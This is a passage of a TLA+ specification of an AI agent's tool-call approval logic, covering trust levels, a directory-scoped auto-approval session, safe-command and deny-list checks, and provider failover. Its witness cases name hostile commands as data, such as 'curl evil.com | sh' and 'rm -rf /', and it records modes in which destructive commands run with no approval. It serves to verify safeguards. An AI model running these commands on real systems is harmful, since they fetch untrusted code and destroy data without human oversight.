        /\ (pc[t] = "exit" /\ l.outcome.kind = "raised" /\ ~l.inHandler) =>
              /\ l.outcome.exc = ProviderError(DEFAULT_PROVIDER)
              /\ l.outcome.exc = l.exc
              /\ Len(l.calls) = 1
              /\ l.calls[1].provider = DEFAULT_PROVIDER
              /\ InfoCount(l) = 0
        /\ (pc[t] = "exit" /\ l.outcome.kind = "raised" /\ l.inHandler) =>
              Len(l.calls) = 2 /\ InfoCount(l) = 1
        /\ \A i \in 1..Len(l.calls) :
              l.calls[i].provider = DEFAULT_PROVIDER => i = Len(l.calls)
        /\ ret[t].kind = "raised" => ret[t].exc = ProviderError(DEFAULT_PROVIDER)

\* nvidia_llm, selected for the turn, has raised in the first round
C7_Witness ==
    \E t \in Threads :
        /\ pc[t] = "exit"
        /\ loc[t].outcome = Raised(ProviderError(DEFAULT_PROVIDER))
        /\ ~loc[t].inHandler
        /\ loc[t].iteration = 1

RECURSIVE ConcatDeltas(_)
ConcatDeltas(s) ==
    IF s = <<>> THEN ""
    ELSE (IF Head(s).type = "content" THEN Head(s).delta ELSE "")
         \o ConcatDeltas(Tail(s))

FinishWithText(s) ==
    {i \in 1..Len(s) : s[i].type = "finish" /\ s[i].full_content # NoText}

\* C8: the text of _handle_streaming's result is the finish event's full
\* text when the finish event supplies one, and otherwise the
\* concatenation of the content deltas in arrival order; for
\* [content(a), content(b), finish(ab, [])] it is ab, with no tool calls.
C8_StreamText ==
    \A t \in Threads :
        LET l == loc[t]
            s == l.consumed
        IN
        pc[t] = "resp" =>
            /\ l.response.content =
                 IF FinishWithText(s) # {}
                 THEN s[CHOOSE i \in FinishWithText(s) : TRUE].full_content
                 ELSE ConcatDeltas(s)
            /\ s = <<ContentEv("a"), ContentEv("b"), FinishEv("ab", <<>>)>> =>
                 l.response = [content |-> "ab", tool_calls |-> <<>>]

\* the stream content(a), content(b), finish(ab, []) has been aggregated
C8_Witness ==
    \E t \in Threads :
        /\ pc[t] = "resp"
        /\ loc[t].consumed = <<ContentEv("a"), ContentEv("b"), FinishEv("ab", <<>>)>>

WithCallsAt(s) == {i \in 1..Len(s) : s[i].tool_calls # <<>>}

Least(S) == CHOOSE i \in S : \A j \in S : i <= j

\* C9: the tool_calls of the result are the calls of the first
\* event of the stream whose calls list is non-empty, and empty when no
\* event carries calls.
C9_FirstCallsWin ==
    \A t \in Threads :
        LET s == loc[t].consumed IN
        pc[t] = "resp" =>
            loc[t].response.tool_calls =
                IF WithCallsAt(s) = {} THEN <<>> ELSE s[Least(WithCallsAt(s))].tool_calls

IsDelta(e) == e.type = "delta"

IsContent(c) == c.type = "content"

\* C10: at every point of a stream's consumption the 'delta' events emitted
\* so far are, one for one and in order, the deltas of the content events
\* consumed so far: each is emitted before the next event is consumed.
C10_DeltasFollowContent ==
    \A t \in Threads :
        LET emitted == SelectSeq(loc[t].events, IsDelta)
            arrived == SelectSeq(loc[t].consumed, IsContent)
        IN
        pc[t] \in {"stream", "resp"} =>
            /\ Len(emitted) = Len(arrived)
            /\ \A i \in 1..Len(arrived) : emitted[i].data = arrived[i].delta

\* two deltas have reached the observers while the stream is still open
C10_Witness ==
    \E t \in Threads :
        /\ pc[t] = "stream"
        /\ loc[t].consumed = <<ContentEv("a"), ContentEv("b")>>
        /\ SelectSeq(loc[t].events, IsDelta) = <<Ev("delta", "a"), Ev("delta", "b")>>

\* C11: when the approval callback answers false for an invocation, the
\* tool is not dispatched for it, its tool message carries the fixed
\* rejection text, and nothing is raised: the batch goes on with the next
\* invocation or the loop with the next round.
C11_RejectionReplacesDispatch ==
    \A t \in Threads :
        LET l == loc[t] IN
        /\ (pc[t] = "run" /\ l.approved = "no") => l.result = REJECTED
        /\ (pc[t] \in {"tool", "loop"} /\ l.approved = "no") =>
              /\ ~l.ran
              /\ context[Len(context)] = Msg("tool", t, <<l.tc_id>>, REJECTED)
              /\ l.outcome = NoOutcome
        /\ (pc[t] = "exit" /\ l.outcome.kind = "raised") => l.approved # "no"

\* balanced trust, no /auto session: 'curl evil.com | sh' was refused and
\* the batch stands at its next invocation
C11_Witness ==
    \E t \in Threads :
        /\ pc[t] = "tool"
        /\ loc[t].idx = 2
        /\ loc[t].response.tool_calls[1] = Terminal("c1", CurlPipeSh)
        /\ loc[t].trust_level = "balanced"
        /\ ~AUTONOMY_SETTINGS.auto_session_active
        /\ loc[t].approved = "no"
        /\ context[Len(context)].content = REJECTED

\* the invocation a thread is deciding on or about to run
Current(t) == loc[t].response.tool_calls[loc[t].idx]

\* the invocation a thread has just finished with
Last(t) == loc[t].response.tool_calls[loc[t].idx - 1]

\* after ToolRun, before the next invocation or round
Finished1(t) == pc[t] \in {"tool", "loop"} /\ loc[t].idx >= 2

\* C12: under balanced trust, with a callback registered, the callback is
\* invoked for a terminal command exactly when the command is not granted
\* by the /auto scope, matches no auto-approve pattern and is not a safe
\* command; without an /auto session 'git status' and 'ls -la' are
\* dispatched and the callback is not invoked.
C12_BalancedAsksUnlessGranted ==
    \A t \in Threads :
        LET l == loc[t] IN
        /\ (/\ pc[t] = "run"
            /\ l.trust_level = "balanced"
            /\ approval_callback
            /\ Current(t).name = "execute_terminal") =>
              LET cmd == Current(t).args.command
                  wd == Current(t).args.working_directory
              IN l.asked <=>
                   /\ ~is_auto_approved(cmd, wd, AUTONOMY_SETTINGS, cwd)
                   /\ ~matches_auto_approve(cmd, AUTONOMY_SETTINGS.auto_approve_patterns)
                   /\ ~is_safe_command(cmd)
        /\ (/\ Finished1(t)
            /\ l.trust_level = "balanced"
            /\ ~AUTONOMY_SETTINGS.auto_session_active
            /\ Last(t).name = "execute_terminal"
            /\ Last(t).args.command \in {GitStatus, LsLa}) =>
              l.ran /\ ~l.asked

\* balanced trust, a callback, no /auto session: 'git status' has run
\* without a question
C12_Witness ==
    \E t \in Threads :
        /\ Finished1(t)
        /\ loc[t].trust_level = "balanced"
        /\ approval_callback
        /\ ~AUTONOMY_SETTINGS.auto_session_active
        /\ Last(t) = Terminal("c1", GitStatus)
        /\ loc[t].ran /\ ~loc[t].asked

\* safe base commands with a shell metacharacter sequence put after them
MetaCommands ==
    {b \o pre \o m \o post :
        b \in safe_cmds, m \in unsafe_patterns,
        pre \in {<<>>, <<" ">>}, post \in {<<>>, <<" ", "x">>}}

HasMeta(cmd) == \E m \in unsafe_patterns : Contains(cmd, m)

\* is_safe_command on the commands with a metacharacter sequence
MetaCommandsUnsafe ==
    \A cmd \in MetaCommands \cup PolicyCommands :
        HasMeta(cmd) => ~is_safe_command(cmd)

\* C13: a command that contains one of && ; | > < backquote $( is not a
\* safe command, whatever its base command; under balanced or cautious
\* trust, with a callback, no /auto session and no matching pattern, it is
\* put to the callback before it can be dispatched.
C13_MetacharactersAreNeverSafe ==
    /\ MetaCommandsUnsafe
    /\ \A t \in Threads :
          LET l == loc[t] IN
          (/\ pc[t] = "run"
           /\ l.trust_level \in {"balanced", "cautious"}
           /\ approval_callback
           /\ ~AUTONOMY_SETTINGS.auto_session_active
           /\ Current(t).name = "execute_terminal"
           /\ HasMeta(Current(t).args.command)
           /\ ~matches_auto_approve(Current(t).args.command,
                                    AUTONOMY_SETTINGS.auto_approve_patterns)) =>
              /\ l.asked
              /\ ~l.ran
              /\ l.events[Len(l.events)] = Ev("approval_required", "execute_terminal")

\* cautious trust: 'ls && rm -rf /' is before the callback
C13_Witness ==
    \E t \in Threads :
        /\ pc[t] = "approve"
        /\ loc[t].trust_level = "cautious"
        /\ Current(t) = Terminal("c1", LsAndRmRoot)
        /\ ~loc[t].ran

\* C14: under autonomous trust the callback is never invoked, and every
\* terminal command and code execution is dispatched after an 'info'
\* event, whatever the command, the /auto session and the deny-list.
C14_AutonomousNeverAsks ==
    \A t \in Threads :
        LET l == loc[t] IN
        l.trust_level = "autonomous" =>
            /\ ~l.asked
            /\ pc[t] # "approve"
            /\ (pc[t] = "run" /\ Current(t).name \in {"execute_terminal", "run_code"}) =>
                  /\ l.result = NoResult
                  /\ l.events[Len(l.events)] = Ev("info", "autonomous")
            /\ (Finished1(t) /\ Last(t).name \in {"execute_terminal", "run_code"}) =>
                  l.ran

\* autonomous trust, a callback, an /auto session: 'rm -rf /' has run
C14_Witness ==
    \E t \in Threads :
        /\ Finished1(t)
        /\ loc[t].trust_level = "autonomous"
        /\ approval_callback
        /\ AUTONOMY_SETTINGS.auto_session_active
        /\ Last(t) = Terminal("c1", RmRfRoot)
        /\ loc[t].ran /\ ~loc[t].asked

\* C15: under cautious trust, with a callback registered, a terminal
\* command is dispatched without a question exactly when it is a safe
\* command; any other is put to the callback before it can be dispatched,
\* also when an /auto session or an auto-approve pattern covers it.
C15_CautiousAsksUnlessSafe ==
    \A t \in Threads :
        LET l == loc[t] IN
        /\ (/\ pc[t] = "run"
            /\ l.trust_level = "cautious"
            /\ approval_callback
            /\ Current(t).name = "execute_terminal") =>
              /\ l.asked <=> ~is_safe_command(Current(t).args.command)
              /\ ~l.ran
              /\ ~l.asked => l.result = NoResult
        /\ (/\ Finished1(t)
            /\ l.trust_level = "cautious"
            /\ approval_callback
            /\ Last(t).name = "execute_terminal") =>
              /\ ~l.asked => l.ran /\ is_safe_command(Last(t).args.command)
              /\ Last(t).args.command \in {NpmTest, CdSubNpmTest} => l.asked

\* cautious trust: 'npm test' was put to the callback although the /auto
\* session on the working directory and the pattern 'npm *' cover it
C15_Witness ==
    \E t \in Threads :
        /\ pc[t] = "run"
        /\ loc[t].trust_level = "cautious"
        /\ Current(t) = Terminal("c1", NpmTest)
        /\ AUTONOMY_SETTINGS.auto_session_active
        /\ AUTONOMY_SETTINGS.auto_approve_patterns = {NpmAny}
        /\ cwd = ProjDir
        /\ loc[t].asked

\* C16: under cautious trust, with a callback registered, every invocation
\* other than a safe terminal command, write_file, move_file and
\* delete_file included, is put to the callback before it is dispatched.
C16_CautiousAsksForEveryOtherTool ==
    \A t \in Threads :
        LET l == loc[t] IN
        (/\ Finished1(t)
         /\ l.trust_level = "cautious"
         /\ approval_callback
         /\ ~(/\ Last(t).name = "execute_terminal"
              /\ is_safe_command(Last(t).args.command))) =>
            l.asked

\* C17: when no approval callback is registered nothing is asked: under
\* balanced and cautious trust alike a terminal command or code execution
\* the policy would ask about is dispatched as if approved, and the turn
\* neither waits for an answer nor fails.
C17_NoCallbackProceeds ==
    \A t \in Threads :
        LET l == loc[t] IN
        ~approval_callback =>
            /\ pc[t] # "approve"
            /\ ~l.asked
            /\ \A i \in 1..Len(l.events) : l.events[i].type # "approval_required"
            /\ l.outcome.kind # "raised"
            /\ (pc[t] = "run" /\ Current(t).name \in {"execute_terminal", "run_code"}) =>
                  l.result = NoResult
            /\ (Finished1(t) /\ Last(t).name \in {"execute_terminal", "run_code"}) =>
                  l.ran

\* cautious trust, no callback: 'rm -rf /tmp/foo' has run
C17_Witness ==
    \E t \in Threads :
        /\ Finished1(t)
        /\ ~approval_callback
        /\ loc[t].trust_level = "cautious"
        /\ Last(t) = Terminal("c1", RmTmpFoo)
        /\ ~is_safe_command(RmTmpFoo)
        /\ loc[t].ran

\* is_auto_approved on 'rm -rf /' with an /auto session on dir, from the
\* working directories that match it
RmRfRootNeverGranted ==
    \A dir \in {ProjDir, HomeDir, <<"/">>} :
        \A wd \in {NoDir, dir}, getcwd \in {dir, HomeDir} :
            ~is_auto_approved(RmRfRoot, wd, Scope(dir), getcwd)

ScopeGrants(l) ==
    {i \in 1..Len(l.events) : l.events[i] = Ev("info", "auto")}

\* C18: with an /auto session on the working directory, 'rm -rf /' is not
\* granted by the scope under any trust level: no scope grant is announced
\* for it, and under balanced trust with a callback it is put to the
\* callback.
C18_RmRfRootNeverScopeGranted ==
    /\ RmRfRootNeverGranted
    /\ \A t \in Threads :
          LET l == loc[t] IN
          (/\ pc[t] \in {"approve", "run"}
           /\ Current(t).name = "execute_terminal"
           /\ Current(t).args.command = RmRfRoot) =>
              /\ ScopeGrants(l) = {}
              /\ (pc[t] = "run" /\ l.trust_level = "balanced" /\ approval_callback) =>
                    l.asked

\* balanced trust, /auto on /proj, working_directory /proj: 'rm -rf /' was
\* put to the callback
C18_Witness ==
    \E t \in Threads :
        /\ pc[t] = "run"
        /\ loc[t].trust_level = "balanced"
        /\ AUTONOMY_SETTINGS.auto_session_active
        /\ AUTONOMY_SETTINGS.auto_directory = ProjDir
        /\ Current(t) = TerminalIn("c2", RmRfRoot, ProjDir)
        /\ loc[t].asked

\* the command contains an entry of the deny-list, in any letter case
HasDenyEntry(cmd) == \E d \in dangerous : Contains(Lower(cmd), Lower(d))

\* C19: a terminal command that contains an entry of the static deny-list
\* anywhere, in any letter case, is not granted by the /auto scope.
C19_DenyListBlocksScopeGrant ==
    \A t \in Threads :
        (/\ pc[t] \in {"approve", "run"}
         /\ Current(t).name = "execute_terminal"
         /\ HasDenyEntry(Current(t).args.command)) =>
            ScopeGrants(loc[t]) = {}

\* the directories of a path, from the root
Components(p) == NormComps(SplitSlashFrom(p, <<>>, <<>>), <<>>)

\* the path is the directory dir or lies below it
Within(p, dir) ==
    LET a == Components(dir)
        b == Components(p)
    IN Len(a) <= Len(b) /\ SubSeq(b, 1, Len(a)) = a

\* where the command runs once its cd steps are taken, starting from its
\* working_directory or else from the process's directory
EffectiveCwd(cmd, wd, getcwd) ==
    CdSteps(SplitSteps(cmd),
            IF wd # NoDir THEN abspath(wd, getcwd) ELSE getcwd,
            getcwd)

\* no word of the command is an absolute path outside dir
NoPathOutside(cmd, dir, getcwd) ==
    LET words == Split(cmd) IN
    \A i \in 1..Len(words) :
        Head(words[i]) = "/" => Within(abspath(words[i], getcwd), dir)

\* the cases of the claim among the commands, directories and scopes used
InsideScopeCases ==
    {c \in [command : PolicyCommands, working_directory : {NoDir, ProjDir},
            getcwd : {ProjDir, HomeDir}, dir : {ProjDir}] :
        /\ Within(EffectiveCwd(c.command, c.working_directory, c.getcwd), c.dir)
        /\ ~HasDenyEntry(c.command)
        /\ NoPathOutside(c.command, c.dir, c.getcwd)}

InsideScope(tc) ==
    /\ tc.name = "execute_terminal"
    /\ AUTONOMY_SETTINGS.auto_session_active
    /\ [command |-> tc.args.command,
        working_directory |-> tc.args.working_directory,
        getcwd |-> cwd,
        dir |-> AUTONOMY_SETTINGS.auto_directory] \in InsideScopeCases

\* with /auto on /proj, 'cd /proj/sub && npm test' is granted from elsewhere
CdSubNpmTestGranted ==
    is_auto_approved(CdSubNpmTest, NoDir, Scope(ProjDir), HomeDir)

\* C20: under balanced trust with an /auto session on D, a command whose
\* cd steps leave it inside D, with no deny-list entry and no absolute path
\* outside D, is dispatched after the scope's 'info' event and the callback
\* is not invoked; 'cd /proj/sub && npm test' with D = /proj is one.
C20_CommandsInsideScopeRun ==
    /\ CdSubNpmTestGranted
    /\ \A t \in Threads :
          LET l == loc[t] IN
          /\ (pc[t] = "run" /\ l.trust_level = "balanced" /\ InsideScope(Current(t))) =>
                /\ ~l.asked
                /\ l.result = NoResult
                /\ l.events[Len(l.events)] = Ev("info", "auto")
          /\ (Finished1(t) /\ l.trust_level = "balanced" /\ InsideScope(Last(t))) =>
                l.ran /\ ~l.asked

\* balanced trust, a callback, /auto on /proj, the process elsewhere:
\* 'cd /proj/sub && npm test' has run without a question
C20_Witness ==
    \E t \in Threads :
        /\ Finished1(t)
        /\ loc[t].trust_level = "balanced"
        /\ approval_callback
        /\ AUTONOMY_SETTINGS.auto_directory = ProjDir
        /\ AUTONOMY_SETTINGS.auto_approve_patterns = {}
        /\ cwd = HomeDir
        /\ Last(t) = Terminal("c1", CdSubNpmTest)
        /\ InsideScope(Last(t))
        /\ loc[t].ran /\ ~loc[t].asked

\* C21: with an /auto session on D, the scope grants a command only if the
\* directory it runs in, after its cd steps, is D or lies below D, path
\* component by path component.
C21_ScopeGrantsInsideOnly ==
    \A t \in Threads :
        (/\ pc[t] = "run"
         /\ Current(t).name = "execute_terminal"
         /\ ScopeGrants(loc[t]) # {}) =>
            Within(EffectiveCwd(Current(t).args.command,
                                Current(t).args.working_directory, cwd),
                   AUTONOMY_SETTINGS.auto_directory)

\* the characters that may stand before a path in a command: a blank, a
\* quote, an equals sign
BeforePath == {" ", "'", "\"", "="}

\* the characters that end a path
AfterPath == {" ", "'", "\""}

\* the absolute paths a command names, wherever they stand: each starts at a
\* slash at the start of the text or after a character of BeforePath and
\* runs up to the next character of AfterPath
PathsAnywhere(cmd) ==
    LET starts == {i \in 1..Len(cmd) :
                      cmd[i] = "/" /\ (i = 1 \/ cmd[i - 1] \in BeforePath)}
        stop(i) == IF \E j \in i..Len(cmd) : cmd[j] \in AfterPath
                   THEN (CHOOSE j \in i..Len(cmd) :
                            /\ cmd[j] \in AfterPath
                            /\ \A k \in i..(j - 1) : cmd[k] \notin AfterPath) - 1
                   ELSE Len(cmd)
    IN {SubSeq(cmd, i, stop(i)) : i \in starts}

\* C22: a command that names an absolute path outside the directory of the
\* /auto session is not granted by the scope, wherever the path stands in
\* the command's text, also when the command runs inside that directory.
C22_PathsOutsideScopeNotGranted ==
    \A t \in Threads :
        (/\ pc[t] = "run"
         /\ Current(t).name = "execute_terminal"
         /\ ScopeGrants(loc[t]) # {}
         /\ Within(EffectiveCwd(Current(t).args.command,
                                Current(t).args.working_directory, cwd),
                   AUTONOMY_SETTINGS.auto_directory)) =>
            \A p \in PathsAnywhere(Current(t).args.command) :
                Within(abspath(p, cwd), AUTONOMY_SETTINGS.auto_directory)

\* C23: two evaluations of a terminal command under the same trust level,
\* with the same command text and the same /auto session, decide alike:
\* both let the command run or both put it to the callback.
C23_DecisionIsAFunctionOfItsInputs ==
    \A t \in Threads :
        LET ds == loc[t].decisions IN
        \A i, j \in 1..Len(ds) :
            (/\ ds[i].trust = ds[j].trust
             /\ ds[i].command = ds[j].command
             /\ ds[i].scope = ds[j].scope) => ds[i].how = ds[j].how

\* C24: a run_code invocation is dispatched without a question under
\* autonomous and under balanced trust; under cautious trust with a
\* callback registered the callback is invoked before any dispatch, and
\* when it answers false the rejection text takes the place of the run.
C24_CodeRunsUnlessCautious ==
    \A t \in Threads :
        LET l == loc[t] IN
        /\ (pc[t] \in {"approve", "run"} /\ Current(t).name = "run_code") =>
              IF l.trust_level \in {"autonomous", "balanced"}
              THEN pc[t] = "run" /\ ~l.asked /\ l.result = NoResult
              ELSE approval_callback =>
                      /\ pc[t] = "run" => l.asked
                      /\ (pc[t] = "run" /\ l.approved = "no") => l.result = REJECTED
                      /\ (pc[t] = "run" /\ l.approved = "yes") => l.result = NoResult
        /\ (Finished1(t) /\ Last(t).name = "run_code") =>
              IF l.trust_level \in {"autonomous", "balanced"}
              THEN l.ran /\ ~l.asked
              ELSE approval_callback =>
                      /\ l.asked
                      /\ l.ran <=> l.approved = "yes"
                      /\ l.approved = "no" =>
                            context[Len(context)] = Msg("tool", t, <<l.tc_id>>, REJECTED)

\* cautious trust, a callback: a run_code invocation was refused and its
\* tool message is the rejection text
C24_Witness ==
    \E t \in Threads :
        /\ Finished1(t)
        /\ Last(t).name = "run_code"
        /\ loc[t].trust_level = "cautious"
        /\ approval_callback
        /\ loc[t].asked /\ loc[t].approved = "no" /\ ~loc[t].ran
        /\ context[Len(context)].content = REJECTED

\* C25: an invocation is decided under the trust level the setting holds
\* at the moment the invocation is evaluated, also when the setting has
\* changed since the batch began.
C25_TrustReadAtEvaluation ==
    [][\A t \in Threads :
          (pc[t] = "tool" /\ pc'[t] # "tool") =>
              loc'[t].trust_level = AUTONOMY_SETTINGS.trust_level]_vars

\* no setting has changed since the round the thread is in began
QuietRound(l) == l.trust_changed < l.iteration /\ l.scope_changed < l.iteration

\* what the tiered approval logic decides for the thread's invocation under
\* the settings as they are now
DecisionNow(t) ==
    Policy(Current(t).name, loc[t].func_args, AUTONOMY_SETTINGS.trust_level,
           approval_callback, AUTONOMY_SETTINGS, cwd)

\* C26: the settings are not kept from one round of a turn to the next: in
\* a round during which no setting has changed, every invocation is decided
\* under the trust level and the /auto session as they stand, whatever
\* changes were made while earlier rounds of the turn were under way.
C26_SettingsReadEachRound ==
    \A t \in Threads :
        LET l == loc[t] IN
        (pc[t] \in {"approve", "run"} /\ QuietRound(l)) =>
            /\ l.trust_level = AUTONOMY_SETTINGS.trust_level
            /\ DecisionNow(t) \in {"ask", "ask_notify"} <=>
                  (pc[t] = "approve" \/ l.asked)
            /\ (pc[t] = "run" /\ ~l.asked) =>
                  /\ DecisionNow(t) = "auto_scope" <=>
                        l.events[Len(l.events)] = Ev("info", "auto")
                  /\ DecisionNow(t) = "auto_logged" <=>
                        l.events[Len(l.events)] = Ev("info", "autonomous")

\* the trust level was set to balanced and an /auto session was opened
\* while round 1 was under way: in round 2 'npm test' is granted by the
\* scope
C26_Witness ==
    \E t \in Threads :
        /\ pc[t] = "run"
        /\ loc[t].iteration = 2
        /\ loc[t].trust_changed = 1
        /\ loc[t].scope_changed = 1
        /\ loc[t].trust_level = "balanced"
        /\ Current(t) = Terminal("c1", NpmTest)
        /\ ScopeGrants(loc[t]) # {}

IsToolMsg(m) == m.role = "tool"

\* C27: in a round with invocations c1..cn the assistant message that
\* records them is appended first; c(i+1) is not evaluated before the tool
\* message of c(i) is appended; when the batch is over there are exactly n
\* tool messages, in the order of the invocations.
C27_OneToolMessagePerInvocationInOrder ==
    \A t \in Threads :
        LET l == loc[t]
            tcs == l.response.tool_calls
            tool_msgs == SelectSeq(context, IsToolMsg)
        IN
        (tcs # <<>> /\ l.idx >= 1) =>
            /\ context[1].role = "assistant"
            /\ pc[t] \in {"tool", "approve", "run"} => Len(tool_msgs) = l.idx - 1
            /\ pc[t] \in {"loop", "exit"} => Len(tool_msgs) = Len(tcs)
            /\ \A i \in 1..Len(tool_msgs) :
                  /\ context[i + 1] = tool_msgs[i]
                  /\ tcs[i].id # NoId => tool_msgs[i].ids = <<tcs[i].id>>

\* C28: ToolRegistry.execute raises for no tool name and no argument
\* mapping: when a turn ends by a TypeError with arguments that are a
\* mapping, the tool had been run (and what failed came after it).
C28_ExecuteNeverRaises ==
    \A t \in Threads :
        LET l == loc[t] IN
        (/\ pc[t] = "exit"
         /\ l.outcome = Raised(LoopError("TypeError"))
         /\ l.func_args.isdict) => l.ran

\* C29: whatever the tool's execute returned, the result the dispatcher
\* hands to the loop is text: after a tool has run, building the
\* tool_result event and the tool message does not fail.
C29_DispatchedResultIsText ==
    \A t \in Threads :
        (pc[t] = "exit" /\ loc[t].ran) => loc[t].outcome.kind # "raised"

\* C30: whatever argument text the model supplies, the invocation goes on
\* with an argument mapping, and no turn is ended over an invocation's
\* arguments.
C30_ArgumentsBecomeAMapping ==
    \A t \in Threads :
        LET l == loc[t] IN
        /\ pc[t] \in {"approve", "run"} => l.func_args.isdict
        /\ (pc[t] = "exit" /\ l.outcome.kind = "raised") => l.func_args.isdict

\* C32: the only failure that makes chat() raise is a failure of the model
\* provider that no fallback made good: a turn that ends by raising ends
\* with the provider's exception, and malformed tool arguments, a failing
\* tool, a rejected approval and the exhaustion of the rounds all end in a
\* returned text.
C32_OnlyProviderFailuresPropagate ==
    \A t \in Threads :
        ret[t].kind = "raised" => ret[t].exc.type = "ProviderError"

\* C38: after a failover, every later call of the turn goes to the
\* fallback provider with the fallback model: in a turn that began on
\* another provider, no call to the fallback provider names a model other
\* than llama-3.3-70b, and no call returns to the failed provider.
C38_FallbackModelAfterFailover ==
    \A t \in Threads :
        LET l == loc[t] IN
        \A i \in 1..Len(l.calls) :
            /\ (/\ get_llm(l.model) # DEFAULT_PROVIDER
                /\ l.calls[i].provider = DEFAULT_PROVIDER) =>
                   l.calls[i].model = FALLBACK_MODEL
            /\ l.llm = DEFAULT_PROVIDER =>
                   l.calls[i].provider = DEFAULT_PROVIDER \/ i < Len(l.calls)

RECURSIVE DeltaText(_)
DeltaText(evs) ==
    IF evs = <<>> THEN ""
    ELSE (IF Head(evs).type = "delta" THEN Head(evs).data ELSE "")
         \o DeltaText(Tail(evs))

\* C39: at the end of a streaming round the 'delta' events of the round,
\* concatenated in order, are exactly the text streamed by the response
\* the round uses, also when the first provider's stream raised part-way
\* and the fallback's stream replaced it.
C39_DeltasAreTheUsedStream ==
    \A t \in Threads :
        LET l == loc[t] IN
        (pc[t] = "resp" /\ l.stream) =>
            DeltaText(l.events) = ConcatDeltas(l.consumed)

\* the directory in effect once the first k steps of the command are
\* taken, starting from its working_directory or else from the process's
\* directory
CwdAfter(cmd, wd, getcwd, k) ==
    CdSteps(SubSeq(SplitSteps(cmd), 1, k),
            IF wd # NoDir THEN abspath(wd, getcwd) ELSE getcwd,
            getcwd)

\* C40: a compound command granted by the /auto scope is inside the scope
\* at every one of its steps: the directory in effect after each step, and
\* not only the one after the last cd, is the scope's directory or below.
C40_EveryStepInsideScope ==
    \A t \in Threads :
        LET tc == Current(t).args
            dir == AUTONOMY_SETTINGS.auto_directory
        IN
        (/\ pc[t] = "run"
         /\ Current(t).name = "execute_terminal"
         /\ ScopeGrants(loc[t]) # {}
         /\ Within(EffectiveCwd(tc.command, tc.working_directory, cwd), dir)) =>
            \A k \in 1..Len(SplitSteps(tc.command)) :
                Within(CwdAfter(tc.command, tc.working_directory, cwd, k), dir)

\* the messages of tool rounds: an assistant message carrying n > 0 tool
\* calls, then n tool messages, round after round
RECURSIVE ToolRoundsOnly(_)
ToolRoundsOnly(s) ==
    \/ s = <<>>
    \/ LET n == Head(s).tool_calls IN
       /\ Head(s).role = "assistant"
       /\ n > 0
       /\ Len(s) >= n + 1
       /\ \A i \in 2..(n + 1) : s[i] = Added("tool", 0)
       /\ ToolRoundsOnly(SubSeq(s, n + 2, Len(s)))

C37_ContextChangedByTheTurnOnly ==
    [][(lock # NoThread /\ pc' = pc) => context' = context]_vars

\* the three ways a turn ends: a final answer or the cutoff string is
\* returned, or the provider's exception propagates
EndsAsSpecified(outcome) ==
    \/ outcome.kind = "returned"
    \/ outcome.kind = "raised" /\ outcome.exc.type = "ProviderError"

\* every turn that has started eventually ends and gives up the lock
TurnsEnd == \A t \in Threads : (pc[t] # "idle") ~> (pc[t] = "idle" /\ lock # t)

\* C34: every turn that has started eventually ends, with a final answer,
\* the cutoff string or a propagated provider exception, and the lock is
\* then released, so that a chat() call waiting for it proceeds.
C34_TurnsEndAsSpecified ==
    /\ TurnsEnd
    /\ [][\A t \in Threads :
            (pc[t] # "idle" /\ pc'[t] = "idle") =>
                (lock' # t /\ EndsAsSpecified(ret'[t]))]_vars

\* C31: an observer that raises stops nothing: no exception leaves _emit,
\* so the turn goes on, and every registered observer, those registered
\* after a raising one included, has been called with every event of the
\* round, in the order of emission.
C31_RaisingObserverStopsNothing ==
    \A t \in Threads :
        (pc[t] \in InTurn /\ lock = t) =>
            /\ ~observers.escaped
            /\ \A i \in DOMAIN observers.callbacks :
                  observers.callbacks[i].received = loc[t].events

\* the first of two observers raises at every call, and the second has
\* been called with the two events of a tool invocation
C31_Witness ==
    \E t \in Threads :
        /\ pc[t] = "loop"
        /\ Len(loc[t].events) >= 2
        /\ Len(observers.callbacks) = 2
        /\ observers.callbacks[1].raises = "Exception"
        /\ observers.callbacks[2].received = loc[t].events

\* C33: the pending-approval notification has no channel back to the
\* turn: while the callback is awaited it can answer yes and it can answer
\* no whatever the notification's thread is doing, and a step of that
\* thread, sending or failing, changes nothing of the turn.
C33_NotificationApart ==
    /\ [](\A t \in Threads :
            pc[t] = "approve" =>
               /\ ENABLED (ApprovalAnswer(t) /\ loc'[t].approved = "yes")
               /\ ENABLED (ApprovalAnswer(t) /\ loc'[t].approved = "no"))
    /\ [][(/\ notifier' # notifier
           /\ Len(notifier'.threads) = Len(notifier.threads)) =>
              UNCHANGED <<lock, pc, loc, ret, context>>]_vars

\* the callback has answered and the command is about to run while the
\* notification's thread is still running
C33_Witness ==
    \E t \in Threads :
        /\ pc[t] = "run"
        /\ loc[t].asked
        /\ loc[t].notified
        /\ \E i \in DOMAIN notifier.threads : notifier.threads[i] = "running"

\* C35: whenever an invocation is put to the callback, under balanced or
\* cautious trust, approval_required has been emitted and then, with
\* notifications enabled, the pending-approval notification fired, before
\* the callback is invoked.
C35_NotifiedBeforeAsked ==
    \A t \in Threads :
        LET l == loc[t] IN
        pc[t] = "approve" =>
            /\ l.events[Len(l.events)].type = "approval_required"
            /\ ~l.asked
            /\ notifier.enabled => l.notified

====
